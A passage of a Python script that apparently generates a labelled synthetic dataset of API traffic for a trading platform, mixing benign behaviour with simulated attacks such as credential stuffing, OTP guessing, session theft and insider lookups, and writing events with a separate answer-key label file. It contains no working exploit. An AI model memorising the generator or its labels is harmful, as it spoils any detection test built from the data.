    r, keep, c, end = w.r, w.label, copy.copy(c), t + w.r.uniform(900, 30000)
    c.user, c.acct, c.email, c.orders, c.sess = v.user, v.acct, v.email, list(v.orders), w.hexid(24)
    w.emit(c, t, "login", 200, tool=True)
    t += w.think(60 if quick else 9)
    w.label = ("attack", "account-takeover", keep[2] + ("" if keep[1] == "account-takeover" else "-takeover"))
    w.holds.append((v.user, t, min(end, w.t1)))
    for op, p in (("otp", .4), ("me", .9), ("port", 1), ("hist", .6), ("port", .4), ("waddrs", .8), ("keys", .3), ("orders", .4), ("cancel", .3), ("order", .5), ("order", .3), ("addaddr", .8), ("mkkey", .25), ("otpsend", .5), ("withdraw", .8), ("withdraw", .4), ("wstat", .7), ("xfer", .3), ("logout", .3)):
        if r.random() < p:
            t += r.uniform(.3, 2) if quick else w.think(14)
            w.emit(c, t, op, 403 if op in ("otp", "withdraw", "addaddr") and r.random() < .25 else None)
    w.label = ("benign", v.name.rsplit("-", 1)[0], "")
    if r.random() < .7:
        visit(w, v, t + r.uniform(30, 2500), n=r.randint(2, 8))
    w.label = keep

def a_stuffing(w, name, n):
    p = Plan(w, name, n, "tool web app app")
    # the success of stuffing is put at 0.1 to 2 % (F5 Labs, Credential Stuffing Report, 2021, and others)
    hit, wall = w.r.uniform(.001, .02), w.r.uniform(0, .3) if p.spread == "one" else .01
    for i, t, c in p.run(.1):
        if w.r.random() < hit or i == n // 2 and w.r.random() < .3:
            takeover(w, t, c, victim(w), p.pace == "fast")
        else:
            w.emit(c, t, "login", 429 if w.r.random() < wall else odds(w, s401=30, s423=.5, s403=.3), subj=w.mail(), auth=False, tool=True)

def a_spray(w, name, n):
    names = [w.mail() for _ in range(max(10, n // w.r.randint(1, 4)))]
    for i, t, c in Plan(w, name, n, "tool web app").run():
        w.emit(c, t, "login", odds(w, s401=98, s423=2), subj=names[i % len(names)], auth=False, tool=True)

def a_takeover(w, name, n):
    """Phished: the password is right at once, several people in a row, by hand or by kit."""
    for i, t, c in Plan(w, name, max(2, n // 11), "web app web", "one few", "human slow").run():
        takeover(w, t, c, victim(w), False)

def a_bola(w, name, n):
    op, ent = w.r.choice([("ord", "ord"), ("stmt", "stmt"), ("port", "acct"), ("hist", "acct"), ("wstat", "wd"), ("user", "uid")])
    walk, ok, at = w.r.random() < .6, w.r.choice([.02, .4, .95]), w.r.randrange(300000)
    for i, t, c in Plan(w, name, n, "tool web app farm", "one one few", acct=True).run(.15):
        w.emit(c, t, op, 200 if w.r.random() < ok else odds(w, s403=1, s404=2), **{ent: w.newid(ent, at + i if walk else None)})

def a_bfla(w, name, n):
    ops = [o for o in w.ops if o[:3] in ("ad.", "p.m", "p.l", "p.r", "p.o")]
    for i, t, c in Plan(w, name, n, "tool web app", "one few", acct=True).run(.3):
        w.emit(c, t, w.r.choice(ops), odds(w, s403=12, s404=6, s401=3, s405=1, s200=.3))

def a_codes(w, name, n):
    p = Plan(w, name, n, "tool web app farm", acct=True)
    for i, t, c in p.run(.2):
        w.emit(c, t, "redeem", odds(w, s404=40, s410=2, s409=1, s200=.5, s429=5 if p.spread == "one" else 1), code=w.code_text())

def a_otp(w, name, n):
    """Has the password, guesses the code."""
    v, every = victim(w), w.r.randint(4, 9)
    for i, t, c in Plan(w, name, n * 4 // 5, "tool web app").run():
        c.email, c.user = v.email, v.user
        if i % every == 0:
            w.emit(c, t - 1.5, "login", 200, tool=True)
        w.emit(c, t, "otp", odds(w, s401=95, s429=5), auth=False)

def a_smspump(w, name, n):
    for i, t, c in Plan(w, name, n * 3 // 4, "tool web app").run(.2):
        if w.r.random() < .3:
            w.emit(c, t - 1, "signup", odds(w, s201=2, s422=1), subj=w.mail(), auth=False, tool=True)
        w.emit(c, t, "otpsend", odds(w, s202=9, s429=1), auth=False)

def a_signups(w, name, n, looks="tool web app app", ops=("cfg", "signup", "otpsend", "otp", "kyc", "redeem", "launch"), spreads=None, paces=None):
    p = Plan(w, name, max(5, n // 5), looks, spreads, paces)
    for i, t, c in p.run():
        w.ident(c).sess = w.hexid(24)
        if p.look == "app":
            c.device = w.hexid(16) if "-" not in c.device else str(uuid.UUID(int=w.r.getrandbits(128), version=4)).upper()
        for op in ops:
            if op in ("signup", "otp") or w.r.random() < .65:
                w.emit(c, t, op, auth=op not in ("cfg", "signup"), tool=True)
                t += w.r.uniform(.3, 2) if p.pace == "fast" else w.think(8)

def a_farm(w, name, n):
    """Racks of real phones collect the welcome bonus and pass it on."""
    a_signups(w, name, n, "farm", ("cfg", "signup", "otp", "kycup", "kyc", "redeem", "port", "xfer"), "few many", "human slow")

def a_scrape(w, name, n):
    """Copies the leaderboard and every trader's page, or the stories, books or public pages."""
    at, what = w.r.randrange(300000), w.r.choice(["trader", "trader", "news", "book", "w.price"])
    p = Plan(w, name, n, "tool web app farm" if what != "w.price" else "tool web")
    for i, t, c in p.run():
        w.emit(c, t, "leads" if what == "trader" and i % 20 == 0 else what, 429 if w.r.random() < (.06 if p.spread == "one" else .004) else None, tr=w.newid("tr", at + i), page=i // 20 + 1, slug=w.r.choice(COINS).lower(), auth=False)

def a_search(w, name, n):
    for i, t, c in Plan(w, name, n, "tool web app", paces="fast fast human").run():
        w.emit(c, t, "search", odds(w, s200=9, s429=1, s503=.2), q="".join(w.r.choices("abcdefghijklmnopqrstuvwxyz", k=w.r.randint(1, 7))), auth=False)

def a_scanner(w, name, n):
    for i, t, c in Plan(w, name, n, "tool tool web").run():
        if w.r.random() < .04:
            w.unreadable(c, t)
        w.emit(c, t, "hz", odds(w, s404=20, s403=2, s400=1, s200=.2), path=w.rare(), auth=False)

def a_payload(w, name, n):
    for i, t, c in Plan(w, name, n, "tool web app", "one few", acct=w.r.random() < .6).run(.1):
        w.emit(c, t, w.r.choice(["search", "candles", "hist", "stmts", "orders", "leads"]), odds(w, s200=5, s400=6, s403=2, s500=1, s401=1), bad=w.r.choice(LOADS) if w.r.random() < .85 else None)

def a_key(w, name, n):
    """An algo's key read from a public repository: used from elsewhere, for other things."""
    own = w.r.choice([c for k in ("algo-momentum", "algo-grid-at-home", "algo-arbitrage", "algo-schedule") for c in w.pools.get(k, [])])
    for i, t, c in Plan(w, name, n, "tool", "one few few").run():
        c.client, c.user, c.acct, c.sess = own.client, own.user, own.acct, None
        op = w.r.choices(["t.acct", "t.open", "t.order", "t.cancel", "t.wd", "t.fills", "t.tick"], [4, 2, 4, 1, 2 if i > 5 else .1, 2, 1])[0]
        w.emit(c, t, op, 403 if op == "t.wd" and w.r.random() < .8 else None)

def a_repack(w, name, n):
    """A modified app from a forum, in the hands of many: trades by itself and reports to its maker."""
    for i, t, c in Plan(w, name, n, "repack", "few many", "human slow", acct=True).run():
        w.emit(c, t, w.r.choices(["refresh", "port", "quote", "order", "keys", "mkkey", "withdraw", "hist", "redeem"], [3, 4, 5, 4, 1, .5, .5, 2, 1])[0])

def a_replay(w, name, n):
    """A few genuine tokens, taken from real phones, go with requests of many made-up devices."""
    op = w.r.choice(["login", "redeem", "trader", "signup"])
    for i, t, c in Plan(w, name, n, "replay", acct=op == "redeem").run(.1):
        w.emit(c, t, op, {"login": 401, "redeem": odds(w, s404=2, s410=1)}.get(op), subj=w.mail(), auth=op == "redeem", code=w.code_text())

def a_insider(w, name, n):
    """An employee looks up rich customers for a friend: the tool, place and hours of his work, mostly."""
    c, late = staff(w, "support-staff", 14), w.r.choice([9000, 40000])
    t = w.when(c.land)
    for _ in range(n):
        t = w.t0 + (t + (w.think(9) if w.r.random() < .96 else w.r.uniform(3600, late)) - w.t0) % (w.t1 - w.t0)
        u = w.r.randrange(400000)
        w.emit(c, t, w.r.choices(["ad.cust", "ad.led", "ad.find", "ad.doc", "ad.lim"], [6, 4, 2, 1.5, .1])[0], uid=w.newid("uid", u), acct=w.newid("acct", u), stmt=w.newid("stmt", u))

def a_poison(w, name, n):
    """A key or an account grows a little every few hours until a flood looks usual."""
    op, at = w.r.choice(["trader", "book", "search", "t.book", "lookup"]), w.r.randrange(300000)
    c = Plan(w, name, 1, "tool" if op == "t.book" else "tool web farm", "one", acct=True).bots[0]
    if op == "t.book":
        c.client, c.sess = "ak_" + w.hexid(12), None
    for i in range(n):
        w.emit(c, w.t0 + (w.t1 - w.t0) * (.03 + .96 * (w.r.uniform(i, i + 1) / n) ** .45), op, tr=w.newid("tr", at + i))

def a_snipe(w, name, n):
    """Bots at the token sale: many accounts, there before anybody else."""
    p, reach = Plan(w, name, n, "tool web app farm", paces="fast", acct=True), w.r.uniform(15, 150)
    p.ts = sorted(w.sale - 15 + w.r.random() * reach for _ in range(n))
    for i, t, c in p.run(.1):
        w.emit(c, t, "sub" if t > w.sale else w.r.choice(["launch", "launch", "refresh"]), odds(w, s201=3, s409=3, s422=1, s429=2) if t > w.sale else None)

def a_enum(w, name, n):
    """Who has an account here: by the recipient search, the password reset or the sign-up."""
    op = w.r.choice(["lookup", "lookup", "forgot", "signup"])
    for i, t, c in Plan(w, name, n, "tool web app farm", acct=True).run(.1):
        w.emit(c, t, op, {"lookup": odds(w, s404=7, s200=2, s429=.2), "forgot": 202, "signup": odds(w, s409=1, s422=1)}[op], subj=w.mail(), auth=op == "lookup", tool=True)

def a_quotes(w, name, n):
    """Quote stuffing: orders placed to be cancelled, to slow or to mislead the others."""
    me, sym = w.ident(Caller("", "", client="ak_" + w.hexid(12))), w.sym()
    for i, t, c in Plan(w, name, n, "tool", "one few", "fast").run():
        c.client, c.user, c.acct, c.sess = me.client, me.user, me.acct, None
        w.emit(c, t, "t.cancel" if i % 2 else "t.order", 429 if w.r.random() < .08 else None, symbol=sym)

def a_session(w, name, n):
    """Sessions taken by an infostealer go on elsewhere, beside their owners."""
    p, vs = Plan(w, name, n, "web tool", "one few", "human slow"), [victim(w) for _ in range(max(1, n // 45))]
    w.holds += [(v.user, p.ts[0], p.ts[-1]) for v in vs]
    for i, t, c in p.run():
        v = vs[i % len(vs)]
        c.user, c.acct, c.email, c.orders, c.sess = v.user, v.acct, v.email, v.orders, v.sess
        w.emit(c, t, w.r.choices(["me", "port", "hist", "waddrs", "addaddr", "withdraw", "orders", "refresh", "keys", "order"], [3, 5, 3, 2, 1, 1, 2, 2, .5, 1.5])[0], 401 if w.r.random() < .05 else None)

ATTACKS = {"credential-stuffing": (a_stuffing, 5), "password-spraying": (a_spray, 3), "account-takeover": (a_takeover, 2), "object-id-walking": (a_bola, 4), "function-probing": (a_bfla, 2), "voucher-enumeration": (a_codes, 3), "otp-guessing": (a_otp, 2), "sms-pumping": (a_smspump, 2),
           "fake-signups": (a_signups, 3), "device-farm-bonus": (a_farm, 2), "scraping": (a_scrape, 3), "search-flood": (a_search, 2), "scanner": (a_scanner, 2), "payload-attack": (a_payload, 2), "leaked-api-key": (a_key, 3), "repackaged-app": (a_repack, 2), "token-replay": (a_replay, 2),
           "insider-lookup": (a_insider, 2), "baseline-poisoning": (a_poison, 2), "token-sale-sniping": (a_snipe, 2), "account-enumeration": (a_enum, 3), "quote-stuffing": (a_quotes, 2), "session-theft": (a_session, 2)}

def main(seed, out):
    w = World(seed)
    r, share = w.r, w.r.uniform(.028, .08)
    weights = {k: v[0] * r.lognormvariate(0, .45) for k, v in HONEST.items()}
    for k in r.sample(["office-nat-user", "vpn-user", "emulator-user", "algo-arbitrage", "market-data-poller", "portfolio-tracker", "copy-trading-desk", "broken-script", "desktop-app", "push-alert-crowd", "tax-season-accountant", "watch-widget", "household"], r.randint(1, 5)):
        weights[k] = 0
    for kind, (_, go) in HONEST.items():
        w.label, goal = ("benign", kind, ""), w.n * (1 - share) * weights[kind] / sum(weights.values())
        while w.count.get(kind, 0) < goal * .97:
            go(w, kind)
    kinds = list(ATTACKS)
    for k in r.sample(kinds, r.randint(1, 5)):
        kinds.remove(k)
    jobs = [k for k in kinds for _ in range(max(1, ATTACKS[k][1] + r.randint(-1, 1)))]
    sizes = [r.lognormvariate(0, .95) for _ in jobs]
    for i, (k, s) in enumerate(zip(jobs, sizes)):
        w.label = ("attack", k, f"{k}-{i}")
        ATTACKS[k][0](w, f"{k}-{i}", int(min(480, max(22, s * w.n * share / sum(sizes)))))
    style = r.choice(["num", "hex", "uuid"])
    os.makedirs(out, exist_ok=True)
    w.events.sort(key=lambda x: x[0])
    with open(os.path.join(out, "events.ndjson"), "w") as fe, open(os.path.join(out, "labels.ndjson"), "w") as fl:
        for i, (t, e, label, user) in enumerate(w.events):
            e["time"] = dt.datetime.fromtimestamp(t, dt.timezone.utc).isoformat(timespec="milliseconds").replace("+00:00", "Z")
            eid = hashlib.md5(f"{seed}-{i}".encode()).hexdigest()
            eid = {"num": f"{seed}-{i:07d}", "hex": eid, "uuid": str(uuid.UUID(eid))}[style]
            fe.write(json.dumps({"event_id": eid} | e, separators=(",", ":")) + "\n")
            if label["label"] == "benign" and any(u == user and a <= t <= b for u, a, b in w.holds):
                label["victim"] = True
            fl.write(json.dumps({"event_id": eid} | label, separators=(",", ":")) + "\n")

if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
